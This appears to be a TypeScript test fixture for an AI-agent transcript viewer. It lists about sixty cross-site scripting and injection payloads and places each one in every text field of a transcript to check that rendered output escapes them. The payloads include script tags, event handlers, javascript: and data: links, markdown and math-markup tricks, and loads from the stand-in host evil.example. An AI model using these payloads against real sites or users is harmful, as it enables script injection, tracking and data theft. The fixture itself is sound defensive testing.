import type { AgentMessage, AssistantMessage, ToolCall } from "../../../src/core/types.js";

/** Text that would do something if anything took it for more than text. Whatever works calls `alert`, or asks `evil.example` for something. */
export const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(2)>",
  "<img src=https://evil.example/pixel.png>",
  "<svg onload=alert(3)>",
  "<svg><script>alert(4)</script></svg>",
  "<svg><animate onbegin=alert(5) attributeName=x dur=1s>",
  "<iframe src=javascript:alert(6)></iframe>",
  '<iframe srcdoc="<script>alert(7)</script>"></iframe>',
  "<object data=https://evil.example/o></object>",
  "<embed src=https://evil.example/e>",
  "<body onload=alert(8)>",
  "<details open ontoggle=alert(9)>x</details>",
  "<input autofocus onfocus=alert(10)>",
  "<video><source onerror=alert(11)></video>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
  "<form action=https://evil.example><button>x</button></form>",
  "<base href=https://evil.example/>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<link rel=stylesheet href=https://evil.example/s.css>",
  "<style>@import url(https://evil.example/i.css);</style>",
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '<a href="javascript:alert(13)">x</a>',
  "<!--><img src=x onerror=alert(14)>-->",
  "<![CDATA[<script>alert(15)</script>]]>",
  "<noscript><p title='</noscript><img src=x onerror=alert(16)>'>",
  "<template><script>alert(17)</script></template>",
  "</title><script>alert(18)</script>",
  "</textarea><script>alert(19)</script>",
  '"><script>alert(20)</script>',
  "'-alert(21)-'",
  "{{constructor.constructor('alert(22)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  "${alert(23)}",
  "[x](javascript:alert(24))",
  "[x](JaVaScRiPt:alert(25))",
  "[x](java\tscript:alert(26))",
  "[x](&#106;avascript:alert(27))",
  "[x](javascript&colon;alert(28))",
  "[x](%6aavascript:alert(29))",
  "[x](vbscript:alert(30))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=)",
  "[x](data:text/html,<script>alert(32)</script>)",
  "[x](blob:https://evil.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/x)",
  "[x]( javascript:alert(33) 'title')",
  "[x][ref]\n\n[ref]: javascript:alert(34)",
  "<javascript:alert(35)>",
  "![x](javascript:alert(36))",
  "![x](https://evil.example/track.png)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzcpPg==)",
  '![x" onerror="alert(38)](x)',
  "[![x](https://evil.example/i.png)](javascript:alert(39))",
  "```html\n<script>alert(40)</script>\n```",
  '```"><script>alert(41)</script>\ncode\n```',
  "`<img src=x onerror=alert(42)>`",
  "| a |\n| - |\n| <img src=x onerror=alert(43)> |",
  "> <script>alert(44)</script>\n\n- <img src=x onerror=alert(45)>",
  "- [ ] <img src=x onerror=alert(46)>",
  "# <script>alert(47)</script>",
  'https://evil.example/" onmouseover="alert(48)',
  "www.evil.example/<script>alert(49)</script>",
  "a\u202e<script>alert(50)</script>\u202c",
  "\u0000<scr\u0000ipt>alert(51)</script>",
  "&lt;script&gt;alert(52)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(53)&#62;",
  "\\(\\href{javascript:alert(54)}{x}\\)",
  "\\(\\text{<img src=x onerror=alert(55)>}\\)",
  '$$\\class{x" onmouseover="alert(56)}{x}$$',
  "\\[\\style{background:url(https://evil.example/m.png)}{alert(57)}\\]",
  "$$\\includegraphics{https://evil.example/m.png}$$",
  "$\\url{javascript:alert(58)}$",
  "$$\\def\\a{\\a\\a}\\a alert(59)$$",
  "$$x^2 \\ref{javascript:alert(60)}$$",
];

/** Every attack in every place of a transcript that holds text. */
export function attackMessages(): AgentMessage[] {
  return attacks.flatMap((attack, at): AgentMessage[] => {
    const id = `call-${at}`;
    const calls: ToolCall[] = [
      {
        type: "toolCall",
        id,
        name: attack,
        arguments: { [attack]: attack, command: attack },
        argumentsError: attack,
      },
    ];
    return [
      { role: "user", content: attack, sender: attack, timestamp: at },
      answer([
        { type: "thinking", thinking: attack },
        { type: "text", text: attack },
        { type: "opaque", dialect: attack, value: { [attack]: attack } },
        { type: "image", url: attack, name: attack },
        { type: "image", data: "AA==", mimeType: attack, name: attack },
        { type: "file", data: "AA==", mimeType: attack, name: attack },
        ...calls,
      ]),
      {
        role: "toolResult",
        toolCallId: id,
        toolName: attack,
        content: [{ type: "text", text: attack }],
        details: { diff: `+${attack}`, session: attack },
        isError: at % 2 === 0,
        timestamp: at,
      },
      { role: "system", content: attack, timestamp: at },
      { role: "status", state: attack, detail: attack, sender: attack, timestamp: at },
      { role: "error", content: attack, code: attack, timestamp: at },
      { role: "compaction", summary: attack, timestamp: at },
      { role: "agentMessage", senderId: attack, payload: attack, timestamp: at },
      { role: "agentComplete", agentId: attack, result: attack, timestamp: at },
      { role: "custom", customType: attack, data: attack, timestamp: at },
    ];
  });
}

function answer(content: AssistantMessage["content"]): AssistantMessage {
  const cost = { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 };
  const usage = { input: 1, output: 1, cacheRead: 0, cacheWrite: 0, totalTokens: 2, cost };
  return {
    role: "assistant",
    content,
    api: "demo",
    provider: "demo",
    model: "<script>alert(0)</script>",
    usage,
    stopReason: "length",
    timestamp: 1,
  };
}

/** Those of the numbered attacks that a text does not show. */
export function unseenAttacks(text: string): string[] {
  return attacks
    .flatMap((attack) => attack.match(/alert\(\d+\)/g) ?? [])
    .filter((call) => !text.includes(call));
}
